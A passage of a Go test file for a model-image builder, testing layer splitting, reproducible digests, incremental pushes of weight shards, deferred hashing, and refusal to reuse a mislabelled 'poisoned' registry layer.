		t.Fatalf("unchanged rebuild after the replacement: %+v, %v", again, err)
	}

	// A layer annotated with the model's code-layer key, holding other files.
	var code layerGroup
	for _, g := range in.groups() {
		if g.name == LayerCode {
			code = g
		}
	}
	layers, err := forged.Layers()
	if err != nil {
		t.Fatal(err)
	}
	poisoned, err := mutate.Append(empty.Image, mutate.Addendum{Layer: layers[len(layers)-1], Annotations: map[string]string{AnnotationLayerContent: code.key()}})
	if err != nil {
		t.Fatal(err)
	}
	if err := remote.Write(ref, poisoned, remote.WithTransport(r.newMeter())); err != nil {
		t.Fatal(err)
	}
	evilLayer, _ := layers[len(layers)-1].Digest()
	res, err = r.Build(ctx, in, target, Options{})
	if err != nil {
		t.Fatal(err)
	}
	for _, l := range res.Layers {
		d, _ := l.Layer.Digest()
		if l.Name == LayerCode && (l.Reused || d == evilLayer) {
			t.Fatalf("the poisoned layer was reused: %+v", l)
		}
	}
}

// TestLargeFilesGetLayersOfTheirOwn: each large extra file (a checkpoint shard) is a layer of
// its own, stored when it does not compress; a changed shard pushes that layer alone, the
// image passes go-containerregistry's validation, and the same inputs give the same digest.
func TestLargeFilesGetLayersOfTheirOwn(t *testing.T) {
	host, r := testRegistry(t)
	ctx := context.Background()
	dir := t.TempDir()
	files := map[string]string{"trainer.py": "print('train')\n", "utils.py": "def f(): pass\n", "vocab.txt": strings.Repeat("token\n", 40<<10)}
	for i := range 4 {
		shard := make([]byte, 256<<10)
		_, _ = rand.Read(shard)
		files[fmt.Sprintf("weights/shard-%d.bin", i)] = string(shard)
	}
	m := writeModel(t, dir, files, "utils.py", "vocab.txt", "weights")
	inputs := func() *Inputs {
		in := collect(t, m)
		in.largeFile = 200 << 10
		return in
	}
	in := inputs()
	var names []string
	stored := map[string]bool{}
	for _, g := range in.groups() {
		names = append(names, g.name)
		stored[g.name] = g.stored
	}
	want := []string{"deps", "deps:vocab.txt", "deps:weights/shard-0.bin", "deps:weights/shard-1.bin", "deps:weights/shard-2.bin", "deps:weights/shard-3.bin", "code"}
	if !slices.Equal(names, want) {
		t.Fatalf("layers %v, want %v", names, want)
	}
	if !stored["deps:weights/shard-0.bin"] || stored["deps:vocab.txt"] {
		t.Errorf("stored %v: want random shards stored, text compressed", stored)
	}
	target := host + "/kaptain/big:1"
	first, err := r.Build(ctx, in, target, Options{})
	if err != nil {
		t.Fatal(err)
	}
	pulled := pull(t, r, first.Pinned)
	if err := validate.Image(pulled); err != nil {
		t.Fatalf("the image does not validate: %v", err)
	}
	again, err := r.Build(ctx, inputs(), host+"/kaptain/big:again", Options{Force: true})
	if err != nil || again.Digest != first.Digest {
		t.Fatalf("the same inputs gave %s, first %s (%v)", again.Digest, first.Digest, err)
	}

	// One shard changes: only its layer is sent.
	shard := make([]byte, 256<<10)
	_, _ = rand.Read(shard)
	if err := os.WriteFile(filepath.Join(dir, "weights", "shard-2.bin"), shard, 0o644); err != nil {
		t.Fatal(err)
	}
	changed, err := r.Build(ctx, inputs(), target, Options{})
	if err != nil {
		t.Fatal(err)
	}
	var sent []string
	for _, l := range changed.Layers {
		if !l.Reused {
			sent = append(sent, l.Name)
		}
	}
	if !slices.Equal(sent, []string{"deps:weights/shard-2.bin"}) || changed.BytesSent > 256<<10+64<<10 {
		t.Errorf("after one shard changed: sent %v, %d bytes", sent, changed.BytesSent)
	}
}

// pull reads the image at ref from the test registry.
func pull(t *testing.T, r *Registry, ref string) v1.Image {
	t.Helper()
	parsed, err := name.ParseReference(ref)
	if err != nil {
		t.Fatal(err)
	}
	img, err := remote.Image(parsed, remote.WithTransport(r.newMeter()))
	if err != nil {
		t.Fatal(err)
	}
	return img
}

// TestNewLargeFilesAreHashedAsTheyArePushed: Collect leaves the large files (new weights)
// unhashed, and a build to a new tag hashes them as it pushes them, the one read of them: the
// image, its layers' content keys and the checksum are those of hashing them first. Where the
// digests are needed before (the image at the tag, a layer this machine pushed from files of
// the same path, size and time), they are hashed first and the layers found.
func TestNewLargeFilesAreHashedAsTheyArePushed(t *testing.T) {
	host, r := testRegistry(t)
	ctx := context.Background()
	dir, cache := t.TempDir(), t.TempDir()
	files := map[string]string{"trainer.py": "print('train')\n"}
	for _, name := range []string{"a", "b"} {
		w := make([]byte, LargeFile+1<<20)
		_, _ = rand.Read(w)
		files["weights/"+name+".bin"] = string(w)
	}
	m := writeModel(t, dir, files, "weights")
	eager := func() *Inputs {
		in := collect(t, m)
		if err := in.Hash(); err != nil {
			t.Fatal(err)
		}
		return in
	}
	in := collect(t, m)
	if !in.Deferred() {
		t.Fatal("Collect hashed the large files")
	}
	res, err := r.Build(ctx, in, host+"/kaptain/big:1", Options{LayerCache: cache})
	if err != nil {
		t.Fatal(err)
	}
	want := eager()
	digests := func(in *Inputs) (out []string) {
		for _, f := range in.Files {
			out = append(out, f.Path+"="+f.Digest)
		}
		return out
	}
	if in.Deferred() || res.Checksum != want.Checksum() || !slices.Equal(digests(in), digests(want)) {
		t.Fatalf("after the push: checksum %s, want %s; files %v, want %v", res.Checksum, want.Checksum(), digests(in), digests(want))
	}
	pulled := pull(t, r, res.Pinned)
	if err := validate.Image(pulled); err != nil {
		t.Fatalf("the image does not validate: %v", err)
	}
	mf, err := pulled.Manifest()
	if err != nil {
		t.Fatal(err)
	}
	var keys, wantKeys []string
	for _, l := range mf.Layers {
		keys = append(keys, l.Annotations[AnnotationLayerContent])
	}
	for _, g := range want.groups() {
		wantKeys = append(wantKeys, g.key())
	}
	if !slices.Equal(keys, wantKeys) || res.BytesSent < 2*LargeFile {
		t.Fatalf("layer keys %v, want %v; %d bytes sent", keys, wantKeys, res.BytesSent)
	}

	// The same files again, to the same tag: hashed first, proven up to date.
	again, err := r.Build(ctx, collect(t, m), host+"/kaptain/big:1", Options{LayerCache: cache})
	if err != nil || !again.Skipped || again.BytesSent != 0 {
		t.Fatalf("unchanged rebuild: skipped %v, %d bytes sent (%v)", again.Skipped, again.BytesSent, err)
	}
	// To a new tag: the layer cache knows these files; they are hashed first and the layers
	// found in the registry.
	retag, err := r.Build(ctx, collect(t, m), host+"/kaptain/big:2", Options{LayerCache: cache})
	if err != nil || retag.Digest != res.Digest || retag.BytesSent > 1<<20 {
		t.Fatalf("new tag: digest %s (first %s), %d bytes sent (%v)", retag.Digest, res.Digest, retag.BytesSent, err)
	}
}
